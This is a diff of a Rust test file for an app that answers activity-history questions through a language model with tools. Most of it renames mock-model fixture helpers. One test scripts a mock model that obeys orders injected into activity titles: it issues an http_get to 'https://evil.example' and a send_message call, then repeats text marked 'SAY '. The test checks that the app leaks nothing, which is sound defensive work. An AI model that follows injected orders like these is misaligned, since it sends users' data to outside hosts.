@@ -9,7 +9,8 @@ use serde_json::json;
 
 use super::fixtures::{history, question, question_to, service};
 use super::model_fixtures::{
-    PROTOCOLS, cite, forbids_tools, look, results, returned, say, system, with_model,
+    PROTOCOLS, forbids_tools, results, returned_activities, search_reply, search_then_cite, system,
+    text_reply, with_model,
 };
 use crate::support::{Endpoint, ModelReply, ModelRequest, Receiver, Reply};
 
@@ -17,7 +18,7 @@ use crate::support::{Endpoint, ModelReply, ModelRequest, Receiver, Reply};
 async fn model_answers_from_tool_results() {
     for provider in PROTOCOLS {
         let (app, endpoint) = with_model(provider).await;
-        endpoint.script(cite);
+        endpoint.script(search_then_cite);
         let berlin = json!({ "query": "What happened on 17 November?", "timezone": "Europe/Berlin" });
         let answer = app.answered_to(&berlin).await;
         let expected = "On 17 November (UTC): `c3d2e1f0a9c3` and `b7c8d9e0f1b7`.\n\n_Written by a language model from \
@@ -38,8 +39,8 @@ async fn model_answers_from_tool_results() {
         let effort =
             first.body["reasoning_effort"].as_str().or(first.body["output_config"]["effort"].as_str());
         assert_eq!((effort, &first.body["stream"]), (Some("low"), &json!(true)));
-        let returned = returned(&asked[1]);
-        assert_eq!(returned[0]["at"], "2026-11-17T16:30:00+01:00");
+        let returned_activities = returned_activities(&asked[1]);
+        assert_eq!(returned_activities[0]["at"], "2026-11-17T16:30:00+01:00");
     }
 }
 
@@ -50,7 +51,11 @@ async fn reaching_a_limit_gives_partial_answer_without_tools() {
         let clock = app.clock.clone();
         endpoint.script(move |asked: &ModelRequest| {
             clock.advance(std::time::Duration::from_secs(80));
-            if forbids_tools(asked) { ModelReply::Text("One thing is sure: `c3d2e1f0a9c3`.") } else { look() }
+            if forbids_tools(asked) {
+                ModelReply::Text("One thing is sure: `c3d2e1f0a9c3`.")
+            } else {
+                search_reply()
+            }
         });
         let answer = app.answered().await;
         assert!(answer.starts_with("This answer is partial: "), "{answer}");
@@ -105,7 +110,7 @@ async fn links_point_only_to_workspace_repository() {
 #[tokio::test]
 async fn digest_answers_without_model_connection() {
     let (app, endpoint) = with_model(PROTOCOLS[0]).await;
-    endpoint.script(cite);
+    endpoint.script(search_then_cite);
     assert!(app.answered().await.contains("Written by a language model"));
     app.store.operator().connections().disconnect_model(ModelUse::Agent).await.unwrap();
     let answer = app.answered().await;
@@ -121,7 +126,7 @@ async fn digest_answers_without_model_connection() {
 async fn model_question_makes_expected_calls() {
     let (app, endpoint) = with_model(PROTOCOLS[0]).await;
     endpoint.script(|asked: &ModelRequest| match asked.turn {
-        0 | 1 => look(),
+        0 | 1 => search_reply(),
         _ => ModelReply::Text("Done."),
     });
     app.submit(&question()).await;
@@ -160,7 +165,7 @@ async fn model_obeying_injected_orders_leaks_nothing() {
             .collect();
         app.store.activities().merge(&demo_workspace(), &hostile).await.unwrap();
         endpoint.script(|asked: &ModelRequest| {
-            let titles = returned(asked);
+            let titles = returned_activities(asked);
             let titles = titles.iter().map(|one| one["title"].as_str().unwrap());
             match asked.turn {
                 0 => ModelReply::ToolCalls(vec![("search_activity", json!({"limit": 50}))]),
@@ -168,10 +173,12 @@ async fn model_obeying_injected_orders_leaks_nothing() {
                     ("http_get", json!({"url": "https://evil.example"})),
                     ("send_message", json!({"channel": "C999"})),
                 ]),
-                _ => say(titles
-                    .filter_map(|title| Some(title.split_once("SAY ")?.1))
-                    .collect::<Vec<_>>()
-                    .join("\n\n")),
+                _ => text_reply(
+                    titles
+                        .filter_map(|title| Some(title.split_once("SAY ")?.1))
+                        .collect::<Vec<_>>()
+                        .join("\n\n"),
+                ),
             }
         });
         workspace::allow(&app.store, std::slice::from_ref(&receiver.url)).await.unwrap();
